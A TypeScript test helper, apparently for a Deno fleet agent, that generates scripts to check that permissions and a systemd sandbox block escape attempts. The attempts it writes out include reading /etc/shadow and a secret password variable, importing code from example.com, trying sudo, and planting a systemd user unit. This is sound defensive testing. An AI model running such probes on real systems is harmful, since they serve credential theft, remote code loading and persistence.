/**
 * What code running as the agent (a compromised dependency, a bug that evaluates input) would
 * try on a device, as a script for the agent's own runtime: `deno run <flags> -` reads it from
 * standard input and prints `{ attempt: outcome }` as JSON, the outcome being "done" or the
 * error that stopped it.
 */

/** Escapes that the agent's Deno permissions stop before the operating system is asked. */
export function denoEscapesScript(paths: { configFile: string; outside: string }): string {
  return escapeScript({
    "rewrite the agent's config": `Deno.writeTextFileSync(${JSON.stringify(paths.configFile)}, "")`,
    "write outside its directories": `Deno.writeTextFileSync(${
      JSON.stringify(paths.outside)
    }, "x")`,
    "run a program": `new Deno.Command("id").outputSync()`,
    // The C library, which the agent calls for madvise, is the one it may open, by its path.
    "load another native library":
      `Deno.dlopen(\`/usr/lib/\${Deno.build.arch}-linux-gnu/libm.so.6\`, {})`,
    "make a pointer to any address": `Deno.UnsafePointer.create(4096n)`,
    "read an environment variable it does not use": `Deno.env.get("FLEET_NATS_PASSWORD")`,
    "import code from the network": `await import("https://example.com/x.js")`,
  });
}

/**
 * Escapes that the unit's sandbox stops even with every Deno permission (as if the attacker
 * got past Deno's checks): `uid` is the agent user's.
 */
export function systemEscapesScript(uid: number): string {
  return escapeScript({
    "read /etc/shadow": `Deno.readTextFileSync("/etc/shadow")`,
    "replace the agent's program": `Deno.writeTextFileSync("/usr/lib/fleet/app/main.js", "x")`,
    "write to /etc": `Deno.writeTextFileSync("/etc/fleet-escape", "x")`,
    "write into its user's runtime directory":
      `Deno.writeTextFileSync("/run/user/${uid}/escape", "x")`,
    "install a user unit in its home":
      `Deno.writeTextFileSync("/home/fleet-agent/.config/systemd/user/escape.service", "")`,
    "become root with sudo": `{
      const r = new Deno.Command("sudo", { args: ["-n", "true"], stderr: "piped" }).outputSync();
      if (!r.success) throw new Error(new TextDecoder().decode(r.stderr).trim());
    }`,
    "open a netlink socket": `Deno.networkInterfaces()`,
  });
}

function escapeScript(attempts: Record<string, string>): string {
  const tries = Object.entries(attempts).map(([name, code]) =>
    `try { ${code}; out[${JSON.stringify(name)}] = "done"; } ` +
    `catch (e) { out[${JSON.stringify(name)}] = e.name + ": " + e.message.split("\\n")[0]; }`
  );
  return ["const out = {};", ...tries, "console.log(JSON.stringify(out));", ""].join("\n");
}

/** The outcomes a script printed: attempt name to "done" or the error. */
export function escapeOutcomes(stdout: string): Record<string, string> {
  return JSON.parse(stdout.trim().split("\n").at(-1) ?? "{}");
}

/**
 * The `[Service]` settings of a unit that make its sandbox and identity, as `systemd-run -p`
 * arguments: everything but how it is started, restarted, stopped and logged.
 */
export function sandboxProperties(unit: string): string[] {
  const service = unit.slice(unit.indexOf("[Service]"), unit.indexOf("[Install]")).split("\n");
  const lifecycle =
    /^(Type|ExecStart|ExecStartPre|Restart\w*|Standard\w+|SyslogIdentifier|KillMode|TimeoutStopSec)=/;
  return service
    .filter((line) => /^\w+=/.test(line) && !lifecycle.test(line))
    .flatMap((line) => ["-p", line]);
}

/** The runtime and its flags from a unit's `ExecStart=`, up to the program it runs. */
export function execStartRuntime(unit: string, program: string): string[] {
  const line = unit.split("\n").find((l) => l.startsWith("ExecStart="));
  const words = line?.slice("ExecStart=".length).split(" ") ?? [];
  const at = words.indexOf(program);
  if (at < 0) throw new Error(`no ExecStart running ${program} in the unit:\n${unit}`);
  return words.slice(0, at);
}
